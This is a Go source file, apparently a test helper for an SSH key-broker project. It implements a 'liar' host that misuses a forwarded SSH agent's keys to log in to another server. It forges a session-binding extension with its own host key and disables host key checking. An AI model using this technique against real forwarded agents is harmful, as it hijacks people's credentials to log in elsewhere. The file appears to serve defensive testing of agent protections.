//go:build linux

package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"

	"github.com/keybroker/keybroker/wire"
	"golang.org/x/crypto/ssh"
	"golang.org/x/crypto/ssh/agent"
)

// liar is "liar HOSTKEY PORT USER": what a host does that the agent is forwarded
// to. It logs in elsewhere with the person's keys, and signs the id of that
// session with its own host key, so that it looks like a login to itself.
func liar() {
	if err := lie(os.Args[1], os.Args[2], os.Args[3]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func lie(hostKey, port, user string) error {
	text, err := os.ReadFile(hostKey)
	if err != nil {
		return err
	}
	own, err := ssh.ParsePrivateKey(text)
	if err != nil {
		return err
	}
	conn, err := net.Dial("unix", os.Getenv("SSH_AUTH_SOCK"))
	if err != nil {
		return err
	}
	defer conn.Close()
	stolen := agent.NewClient(conn)
	list, err := stolen.List()
	if err != nil || len(list) == 0 {
		return fmt.Errorf("no keys: %w", err)
	}
	client, err := ssh.Dial("tcp", "127.0.0.1:"+port, &ssh.ClientConfig{
		User: user, HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		Auth: []ssh.AuthMethod{ssh.PublicKeys(lyingSigner{list[0], stolen, own})},
	})
	if err != nil {
		return err
	}
	defer client.Close()
	session, err := client.NewSession()
	if err != nil {
		return err
	}
	out, err := session.Output("echo broken in")
	os.Stdout.Write(out)
	return err
}

// lyingSigner signs with the key of an agent, after the lie.
type lyingSigner struct {
	key   *agent.Key
	agent agent.ExtendedAgent
	own   ssh.Signer
}

func (l lyingSigner) PublicKey() ssh.PublicKey {
	key, err := ssh.ParsePublicKey(l.key.Blob)
	if err != nil {
		panic(err)
	}
	return key
}

// Sign takes data that begins with the session id (RFC 4252 section 7).
func (l lyingSigner) Sign(random io.Reader, data []byte) (*ssh.Signature, error) {
	var login struct {
		SessionID []byte
		Rest      []byte `ssh:"rest"`
	}
	if err := ssh.Unmarshal(data, &login); err != nil {
		return nil, err
	}
	proof, err := l.own.Sign(random, login.SessionID)
	if err != nil {
		return nil, err
	}
	bind := wire.SessionBind{HostKey: l.own.PublicKey().Marshal(), SessionID: bytes.Clone(login.SessionID), Signature: ssh.Marshal(proof)}
	if _, err := l.agent.Extension(wire.ExtSessionBind, bind.Marshal()); err != nil {
		return nil, errors.New("not bound")
	}
	fmt.Fprintln(os.Stderr, "bound by the liar's own host key")
	return l.agent.Sign(l.PublicKey(), data)
}
